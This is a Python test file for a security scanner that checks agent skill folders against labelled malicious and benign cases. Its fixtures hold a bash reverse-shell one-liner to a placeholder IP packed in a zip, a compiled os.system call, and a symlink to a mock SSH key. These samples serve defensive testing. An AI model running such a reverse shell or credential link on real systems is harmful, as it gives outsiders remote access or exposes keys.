"""Adversarial regression set: hand-written skills the scanner must judge right.

Each case is a small skill folder under ``tests/data/security/cases/<id>/``, labelled
in ``tests/data/security/cases.yaml``: the verdict ``scan_skill_dir`` must return,
the rules that must fire, and (for benign look-alikes) the rules that must not fire
at high or critical risk. Every malicious case has at least one benign look-alike.
Folder shapes that need binary files, symlinks or file modes are built in
``tmp_path`` here rather than committed.
"""

from __future__ import annotations

import os
import py_compile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from hermes_core.security import (
    RULES,
    RULES_BY_ID,
    Category,
    Risk,
    Scanner,
    ScanResult,
    TrustLevel,
    Verdict,
    honours_suppressions,
    scan_skill_dir,
)
from hermes_core.security.structure import MAX_FILES

DATA = Path(__file__).resolve().parents[2] / "data" / "security"
CASES_DIR = DATA / "cases"
SCANNER = Scanner()
SKILL_MD = (
    "---\nname: shape-check\ndescription: A skill used to test folder shapes.\n---\n# Shape\n"
)
KINDS = ("malicious", "benign")
_MAX_CASE_BYTES = 8 * 1024


@dataclass(frozen=True, slots=True)
class Case:
    """One labelled skill folder."""

    id: str
    kind: str
    verdict: Verdict
    must: frozenset[str]
    not_high: frozenset[str]
    suppressed: frozenset[str]
    look_alike_of: tuple[str, ...]
    about: str
    trust: TrustLevel = TrustLevel.COMMUNITY

    @property
    def folder(self) -> Path:
        return CASES_DIR / self.id


def _load_cases() -> dict[str, Case]:
    spec = yaml.safe_load((DATA / "cases.yaml").read_text(encoding="utf-8"))["cases"]
    return {
        case_id: Case(
            id=case_id,
            kind=entry["kind"],
            verdict=Verdict(entry["verdict"]),
            must=frozenset(entry.get("must", ())),
            not_high=frozenset(entry.get("not_high", ())),
            suppressed=frozenset(entry.get("suppressed", ())),
            look_alike_of=tuple(entry.get("look_alike_of", ())),
            about=entry["about"],
            trust=TrustLevel(entry.get("trust", TrustLevel.COMMUNITY.value)),
        )
        for case_id, entry in spec.items()
    }


CASES = _load_cases()
MALICIOUS = [case for case in CASES.values() if case.kind == "malicious"]
BENIGN = [case for case in CASES.values() if case.kind == "benign"]


def _describe(result: ScanResult) -> str:
    rows = [
        f"  {f.rule} {f.risk.value} {f.file}:{f.range.start.line + 1}"
        + (f" [{f.context}]" if f.context else "")
        + f" {f.matched[:80]!r}"
        for f in result.findings
    ]
    return "\n".join(rows) or "  (no findings)"


def _problems(case: Case, result: ScanResult) -> list[str]:
    """Every way ``result`` differs from the case's label."""
    problems = []
    if result.verdict is not case.verdict:
        problems.append(f"verdict is {result.verdict.value}, expected {case.verdict.value}")
    found = {finding.rule for finding in result.findings}
    if missing := sorted(case.must - found):
        problems.append(f"missing rules {missing}")
    high = {f.rule for f in result.findings if f.risk.rank <= Risk.HIGH.rank}
    if too_high := sorted(case.not_high & high):
        problems.append(f"reported at high or critical risk {too_high}")
    hidden = {s.rule for s in result.suppressions if s.suppressed}
    if unlisted := sorted(case.suppressed - hidden):
        problems.append(f"suppressions not listed {unlisted}")
    return problems


def _check(case: Case) -> None:
    result = scan_skill_dir(
        case.folder, SCANNER, honour_suppressions=honours_suppressions(case.trust)
    )
    problems = _problems(case, result)
    assert not problems, (
        f"{case.id} ({case.kind}): {case.about}\n"
        + "\n".join(f"- {problem}" for problem in problems)
        + f"\nfindings:\n{_describe(result)}"
    )


# -- the labelled cases ---------------------------------------------------------------------


@pytest.mark.parametrize("case", MALICIOUS, ids=lambda case: case.id)
def test_a_malicious_case_gets_its_verdict_and_its_rules(case: Case):
    _check(case)


@pytest.mark.parametrize("case", BENIGN, ids=lambda case: case.id)
def test_a_benign_look_alike_gets_its_verdict_and_is_not_flagged_high(case: Case):
    _check(case)


# -- the set itself -------------------------------------------------------------------------


def test_every_case_folder_is_labelled_and_every_label_has_a_folder():
    folders = {path.name for path in CASES_DIR.iterdir() if path.is_dir()}
    assert folders == set(CASES)
    assert all((case.folder / "SKILL.md").is_file() for case in CASES.values())


def test_every_label_is_complete_and_names_only_rules_that_exist():
    for case in CASES.values():
        assert case.kind in KINDS, case.id
        assert case.about.strip(), case.id
        named = case.must | case.not_high | case.suppressed
        assert named <= set(RULES_BY_ID), (case.id, sorted(named - set(RULES_BY_ID)))
        if case.kind == "malicious":
            assert case.must, f"{case.id}: a malicious case names the rules that must fire"
            assert not case.look_alike_of, case.id
        else:
            assert case.verdict is not Verdict.DANGEROUS, case.id
            assert case.not_high, f"{case.id}: a look-alike names the rules it must not trip"


def test_every_malicious_case_has_a_benign_look_alike():
    imitated: set[str] = set()
    for case in BENIGN:
        assert case.look_alike_of, case.id
        for other in case.look_alike_of:
            assert other in CASES, (case.id, other)
            assert CASES[other].kind == "malicious", (case.id, other)
        imitated.update(case.look_alike_of)
    assert sorted(case.id for case in MALICIOUS if case.id not in imitated) == []


def test_case_files_are_short_utf8_text():
    for path in CASES_DIR.rglob("*"):
        assert not path.is_symlink(), path
        if path.is_dir():
            continue
        data = path.read_bytes()
        assert b"\0" not in data, path
        data.decode("utf-8")
        assert len(data) <= _MAX_CASE_BYTES, path
        assert not os.access(path, os.X_OK) or data.startswith(b"#!"), path


# -- folder shapes, built in tmp_path -------------------------------------------------------


def _skill(tmp_path: Path) -> Path:
    skill = tmp_path / "skill"
    (skill / "scripts").mkdir(parents=True)
    (skill / "SKILL.md").write_text(SKILL_MD, encoding="utf-8")
    return skill


def _native_helper(skill: Path) -> None:
    (skill / "scripts" / "helper.bin").write_bytes(bytes(range(256)) * 8)


def _zip_payload(skill: Path) -> None:
    with zipfile.ZipFile(skill / "scripts" / "tools.zip", "w") as archive:
        archive.writestr("install.sh", "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n")


def _compiled_python(skill: Path) -> None:
    source = skill / "scripts" / "helper.py"
    source.write_text("import os\nos.system('id')\n", encoding="utf-8")
    py_compile.compile(str(source), cfile=str(skill / "scripts" / "helper.pyc"), doraise=True)
    source.unlink()


def _elf_program(skill: Path) -> None:
    (skill / "scripts" / "updater").write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57)


def _link_to_ssh_key(skill: Path) -> None:
    outside = skill.parent / "home" / ".ssh"
    outside.mkdir(parents=True)
    (outside / "id_ed25519").write_text("not a real key\n", encoding="utf-8")
    (skill / "references").mkdir()
    (skill / "references" / "key.txt").symlink_to(outside / "id_ed25519")


def _broken_link(skill: Path) -> None:
    (skill / "references").mkdir()
    (skill / "references" / "guide.md").symlink_to(skill / "references" / "missing.md")


def _too_many_files(skill: Path) -> None:
    for index in range(MAX_FILES + 1):
        (skill / "scripts" / f"part{index:04}.txt").write_text("ok\n", encoding="utf-8")


def _executable_data(skill: Path) -> None:
    data = skill / "scripts" / "data.txt"
    data.write_text("plain notes\n", encoding="utf-8")
    data.chmod(0o755)


def _path_beyond_path_max(skill: Path) -> None:
    """A file whose full path is longer than PATH_MAX: nobody, not even root, can open
    it by that path, so the scan cannot read it whoever runs the tests."""
    limit = os.pathconf(skill, "PC_PATH_MAX")
    folder = skill / "references"
    folder.mkdir()
    while len(str(folder)) < limit - 80:
        folder = folder / ("d" * min(200, limit - 80 - len(str(folder))))
        folder.mkdir()
    handle = os.open(folder, os.O_RDONLY)
    try:
        made = os.open("n" * 120 + ".md", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=handle)
        os.write(made, b"notes\n")
        os.close(made)
    finally:
        os.close(handle)


RISKY_SHAPES: dict[str, tuple[str, Callable[[Path], None]]] = {
    "native-helper-binary": ("STR001", _native_helper),
    "zip-with-a-payload": ("STR002", _zip_payload),
    "compiled-python-without-source": ("STR003", _compiled_python),
    "elf-program": ("STR004", _elf_program),
    "symlink-to-a-key-outside": ("STR005", _link_to_ssh_key),
    "broken-symlink": ("STR006", _broken_link),
    "more-files-than-the-limit": ("STR007", _too_many_files),
    "executable-bit-on-data": ("STR008", _executable_data),
    "path-longer-than-path-max": ("STR009", _path_beyond_path_max),
}


@pytest.mark.parametrize("shape", sorted(RISKY_SHAPES))
def test_a_risky_folder_shape_is_reported_with_its_rule(tmp_path: Path, shape: str):
    rule, build = RISKY_SHAPES[shape]
    skill = _skill(tmp_path)
    build(skill)
    result = scan_skill_dir(skill, SCANNER)
    assert rule in {finding.rule for finding in result.findings}, _describe(result)
    if RULES_BY_ID[rule].risk.rank <= Risk.HIGH.rank:
        assert result.verdict is Verdict.DANGEROUS, _describe(result)


def _image(skill: Path) -> None:
    (skill / "assets").mkdir()
    (skill / "assets" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))


def _link_inside(skill: Path) -> None:
    (skill / "references").mkdir()
    (skill / "references" / "guide.md").write_text("# Guide\n", encoding="utf-8")
    (skill / "GUIDE.md").symlink_to(skill / "references" / "guide.md")


def _executable_script(skill: Path) -> None:
    script = skill / "scripts" / "run"
    script.write_text("#!/bin/sh\necho hello\n", encoding="utf-8")
    script.chmod(0o755)


HARMLESS_SHAPES: dict[str, Callable[[Path], None]] = {
    "png-image": _image,
    "symlink-inside-the-skill": _link_inside,
    "executable-script-with-shebang": _executable_script,
}


@pytest.mark.parametrize("shape", sorted(HARMLESS_SHAPES))
def test_a_harmless_folder_shape_leaves_the_skill_safe(tmp_path: Path, shape: str):
    skill = _skill(tmp_path)
    HARMLESS_SHAPES[shape](skill)
    result = scan_skill_dir(skill, SCANNER)
    assert result.verdict is Verdict.SAFE, _describe(result)


# -- coverage of the rule table ---------------------------------------------------------------


def _exercised_rules() -> set[str]:
    rules = {rule for case in MALICIOUS for rule in case.must}
    return rules | {rule for rule, _build in RISKY_SHAPES.values()}


def test_every_category_is_exercised_by_a_malicious_case_or_a_folder_shape():
    exercised = {RULES_BY_ID[rule].category for rule in _exercised_rules()}
    assert sorted(set(Category) - exercised) == []


def test_every_rule_is_exercised_by_a_malicious_case_or_a_folder_shape():
    assert sorted({rule.id for rule in RULES} - _exercised_rules()) == []
